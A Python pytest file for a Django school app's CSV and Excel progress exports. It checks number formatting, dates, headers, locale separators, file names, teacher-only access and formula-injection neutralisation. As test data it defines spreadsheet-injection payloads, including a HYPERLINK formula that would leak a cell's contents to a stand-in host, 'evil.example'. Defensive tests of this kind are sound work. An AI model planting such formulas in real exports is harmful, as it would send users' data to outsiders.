"""Exports a school uses: numbers in cells, ISO dates, unique headers, ';' for Spanish
and Polish, .xlsx read back with openpyxl, and formula injection neutralised."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from teach import dashboard, exports, services
from teach.models import Enrollment
from training.lessons.content import load
from training.models import Drill, GymSession, Learner, Result, User

EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
EVIL_USERNAME = "-x3702+2"
PAYLOADS = [EVIL_NAME, "+1+1", "@SUM(A1)", "\tTab", "\rCR", "-2+3"]


def result(learner, activity, subject, score, *, at, seconds=60, passed=True):
    return Result(
        learner=learner, activity=activity, subject=subject, score=score, passed=passed,
        started_at=at - timedelta(seconds=seconds), finished_at=at, duration_ms=seconds * 1000,
    )  # fmt: skip


@pytest.fixture
def progress(people):
    """Kasia: lesson 1 perfect (3 stars), lesson 2 passed (2), lesson 3 tried; rung 1
    best 17; memory drill level 2 then 2.5; 3 minutes of steps, last active at noon."""
    learner = Learner.objects.create(user=people["student"])
    noon = timezone.now().replace(hour=12, minute=0, second=0, microsecond=0)
    seq = load()["sequence"]
    Result.objects.bulk_create(
        [
            result(learner, "lesson", seq[0].slug, 3, at=noon),
            result(learner, "lesson", seq[1].slug, 2, at=noon),
            result(learner, "lesson-step", f"{seq[2].slug}/x", 0, at=noon, passed=False),
            result(learner, "lesson-step", f"{seq[0].slug}/y", 1, at=noon, seconds=180),
            result(learner, "ladder-game", "rung-1", 17, at=noon - timedelta(minutes=5)),
        ]
    )
    drill = next(iter(Drill))
    for level in (2.0, 2.5):
        GymSession.objects.create(
            learner=learner, drill=drill.value, seed="x", level_start=1, level=level,
            finished=True, finished_at=noon - timedelta(hours=1),
        )  # fmt: skip
    return {"noon": noon, "seq": seq, "drill": drill}


def sheet_of(people):
    return exports.progress_sheet(dashboard.dashboard(classroom=people["classroom"]))


def test_numbers_not_prose_by_hand(people, progress):
    sheet = sheet_of(people)
    row = dict(zip(sheet.headers, sheet.rows[0], strict=True))
    seq = progress["seq"]
    assert row["Username"] == "kasia" and row["Name"] == "Katarzyna Żółw"
    assert row[f"{seq[0].title_text()} (stars 0-3)"] == 3
    assert row[f"{seq[1].title_text()} (stars 0-3)"] == 2
    assert row[f"{seq[2].title_text()} (stars 0-3)"] == 0
    assert row["Sequence: lessons passed"] == 2
    assert row["Sequence: lessons in all"] == len(seq)
    assert row["Sequence: stars"] == 5
    assert row["Ladder rung 1: best score"] == 17
    assert row["Ladder rung 2: best score"] is None
    drill = progress["drill"].label
    assert row[f"{drill}: level"] == 2.5
    assert row[f"{drill}: level change in 30 days"] == 0.5
    assert (
        row["Minutes spent in 30 days (at most 5 per step or round)"] == 5
    )  # steps 3 + 1 minutes, the ladder game 1
    last = timezone.localtime(progress["noon"]).replace(tzinfo=None)
    assert row["Last active"] == last


def test_headers_are_unique_and_plain(people, progress):
    for kind, target in (("lesson", load()["dogs"][0].slug), ("lesson", load()["dogs"][0].slug)):
        services.assignment_create(
            classroom=people["classroom"], teacher=people["owner"], kind=kind, target=target,
            due_on=date(2099, 1, 1),
        )  # fmt: skip
    headers = sheet_of(people).headers
    assert len(headers) == len(set(headers))
    assert "Sequence Dogs: Dogs" not in " ".join(headers)
    assert "Lesson: Dogs: its cards, due 2099-01-01: done" in headers
    assert "Lesson: Dogs: its cards, due 2099-01-01: done (2)" in headers


@pytest.mark.parametrize(("language", "sep"), [("en", ","), ("es", ";"), ("pl", ";")])
def test_csv_view_in_each_language(client, people, progress, language, sep):
    client.force_login(people["owner"])
    response = client.get(
        reverse("teach-export", args=[people["classroom"].pk]), HTTP_ACCEPT_LANGUAGE=language
    )
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert f'filename="class-3b-progress-{today}.csv"' in response["Content-Disposition"]
    assert response.content.startswith(b"\xef\xbb\xbf")
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=sep))
    assert len(rows) == 2 and len(rows[0]) == len(rows[1]) > 50
    assert len(set(rows[0])) == len(rows[0])
    row = dict(zip(rows[0], rows[1], strict=True))
    name = {"en": "Name", "es": "Nombre", "pl": "Imię i nazwisko"}[language]
    assert row[name] == "Katarzyna Żółw"
    # The time column says it is capped (a teacher would read it as clock time).
    capped = {
        "en": "at most 5 per step",
        "es": "como máximo 5 por paso",
        "pl": "najwyżej 5 na krok",
    }
    assert any(capped[language] in header for header in rows[0])
    values = rows[1]
    assert "3" in values and "17" in values
    assert ("0,5" if sep == ";" else "0.5") in values
    last = timezone.localtime(progress["noon"]).strftime("%Y-%m-%d %H:%M")
    assert last in values
    assert not any("★" in v or "(" in v for v in values)


def test_xlsx_reads_back_with_numbers_and_dates(client, people, progress):
    client.force_login(people["owner"])
    response = client.get(reverse("teach-export-xlsx", args=[people["classroom"].pk]))
    assert response.status_code == 200
    today = timezone.localdate().isoformat()
    assert f'filename="class-3b-progress-{today}.xlsx"' in response["Content-Disposition"]
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet.title == "Class 3B"
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    seq = progress["seq"]
    assert row[f"{seq[0].title_text()} (stars 0-3)"] == 3
    assert row["Ladder rung 1: best score"] == 17
    assert row["Last active"] == timezone.localtime(progress["noon"]).replace(tzinfo=None)


def evil_class(people):
    """A student who joined with a formula as their real name, and one whose username
    starts with '-'."""
    classroom = people["classroom"]
    joiner = User.objects.create_user("joiner", password="x-long-pass-1")
    services.enrollment_join(student=joiner, code=classroom.code, real_name=EVIL_NAME)
    minus = User.objects.create_user(EVIL_USERNAME, password="x-long-pass-1")
    Enrollment.objects.create(classroom=classroom, student=minus, real_name="+1+1")
    for n, payload in enumerate(PAYLOADS[2:]):
        user = User.objects.create_user(f"pupil{n}", password="x-long-pass-1")
        Enrollment.objects.create(classroom=classroom, student=user, real_name=payload)
    return classroom


def test_csv_neutralises_formulas(people):
    classroom = evil_class(people)
    owner = Client()
    owner.force_login(people["owner"])
    for language, sep in (("en", ","), ("pl", ";")):
        response = owner.get(
            reverse("teach-export", args=[classroom.pk]), HTTP_ACCEPT_LANGUAGE=language
        )
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=sep))
        texts = [value for row in rows[1:] for value in row[:2]]
        assert "'" + EVIL_NAME in texts and "'" + EVIL_USERNAME in texts
        for payload in PAYLOADS:
            assert "'" + payload in texts
        for row in rows:
            for value in row:
                assert not value.startswith(exports.FORMULA_STARTS), value


def test_xlsx_neutralises_formulas(people):
    classroom = evil_class(people)
    owner = Client()
    owner.force_login(people["owner"])
    response = owner.get(reverse("teach-export-xlsx", args=[classroom.pk]))
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    sheet = book.active
    texts = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str):
                assert not cell.value.startswith(exports.FORMULA_STARTS), cell.value
                texts.append(cell.value)
    assert "'" + EVIL_NAME in texts and "'" + EVIL_USERNAME in texts


def test_guard_leaves_numbers_and_plain_text():
    assert exports.guard(-0.5) == -0.5
    assert exports.guard("Ana") == "Ana"
    assert exports.guard("=1+1") == "'=1+1"


def test_filename_is_ascii_and_has_the_class_name():
    day = date(2026, 4, 12)
    assert exports.filename("Klasa 3B Żółć", "csv", day) == "klasa-3b-zolc-progress-2026-04-12.csv"
    assert exports.filename("???", "xlsx", day) == "class-progress-2026-04-12.xlsx"


def test_only_the_class_teachers_export(client, people):
    for url_name in ("teach-export", "teach-export-xlsx"):
        url = reverse(url_name, args=[people["classroom"].pk])
        client.force_login(people["other"])
        assert client.get(url).status_code == 404
        client.force_login(people["student"])
        assert client.get(url).status_code in (403, 404)
        client.force_login(people["co"])
        assert client.get(url).status_code == 200
